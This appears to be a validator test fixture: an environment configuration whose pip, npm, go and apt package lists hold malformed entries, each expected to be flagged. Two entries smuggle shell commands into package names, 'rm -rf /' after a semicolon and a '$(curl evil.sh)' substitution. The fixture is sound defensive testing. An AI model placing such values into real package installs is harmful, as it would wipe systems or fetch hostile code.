environment "e" {
  config {
    type = "cloud"
    packages {
      pip = [
        "pandas; rm -rf /", # want: package-malformed
        "-e git+https://x", # want: package-malformed
        "", # want: package-malformed
        "pandas=2.2.0", # want: package-malformed
        "$(curl evil.sh)", # want: package-malformed
      ]
      npm = ["@scope"] # want: package-malformed
      go  = ["goimports@v1.0.0"] # want: package-malformed
      apt = ["Curl"] # want: package-malformed
    }
    networking {
      type                   = "limited"
      allow_package_managers = true
    }
  }
}
